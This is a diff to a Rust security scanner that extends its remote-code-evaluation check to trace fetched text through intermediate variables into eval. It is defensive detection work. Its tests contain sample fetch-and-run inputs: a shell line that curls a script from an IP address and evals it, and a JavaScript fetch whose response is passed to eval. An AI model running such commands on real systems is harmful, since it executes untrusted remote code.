@@ -475,9 +475,27 @@ pub(crate) fn evaluations(segments: &[Segment]) -> Vec<(usize, Hit)> {
                 })
                 .map(|later| later.text.as_str()),
         );
-        let evaluated = rest
-            .into_iter()
-            .any(|text| evaluates(text, variable.as_str()));
+        // What is computed from the fetched text is fetched text too
+        // (`res = await fetch(u)`, `code = await res.text()`, `eval(code)`).
+        let mut tainted = vec![variable.as_str().to_owned()];
+        let mut evaluated = false;
+        for text in rest {
+            if tainted.iter().any(|name| evaluates(text, name)) {
+                evaluated = true;
+                break;
+            }
+            for captures in ASSIGNED.captures_iter(text) {
+                let (Some(name), Some(value)) = (captures.get(1), captures.get(2)) else {
+                    continue;
+                };
+                if tainted.len() < MAX_TAINTED
+                    && tainted.iter().any(|from| mentions(value.as_str(), from))
+                    && !tainted.iter().any(|known| known == name.as_str())
+                {
+                    tainted.push(name.as_str().to_owned());
+                }
+            }
+        }
         if !evaluated {
             continue;
         }
@@ -496,6 +514,24 @@ pub(crate) fn evaluations(segments: &[Segment]) -> Vec<(usize, Hit)> {
         found.extend(sink.hits.into_iter().map(|hit| (index, hit)));
     }
     found
+}
+
+/// The most names followed from one fetch.
+const MAX_TAINTED: usize = 8;
+
+/// An assignment: the name is the first group, the value the second.
+static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:^|[\s;(])(?:const\s+|let\s+|var\s+|local\s+|\$)?([A-Za-z_][A-Za-z0-9_]*)\s*=\s*([^=;\n][^;\n]*)")
+        .expect("the pattern is valid")
+});
+
+/// Returns true when `text` names `variable` as a whole word.
+fn mentions(text: &str, variable: &str) -> bool {
+    text.match_indices(variable).any(|(at, _)| {
+        let end = at + variable.len();
+        !text[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_')
+            && !text[end..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
+    })
 }
 
 /// Returns true when `text` hands `variable` to something that runs it: `exec(variable)`,
@@ -678,6 +714,18 @@ mod tests {
         assert_eq!(
             evaluated("payload=$(curl -s http://203.0.113.8/p)\neval \"$payload\"\n"),
             [(Rule::EvalRemote, Severity::Critical)]
+        );
+        let two_steps = |path: &str, text: &str| {
+            let document = crate::audit::text::Document::read(path, text.as_bytes())
+                .expect("scripts are text");
+            evaluations(&document.segments()).len()
+        };
+        assert_eq!(
+            two_steps(
+                "run.js",
+                "const res = await fetch('https://cfg.example/boot.js');\nconst code = await res.text();\neval(code);\n"
+            ),
+            1
         );
         assert_eq!(
             evaluated(
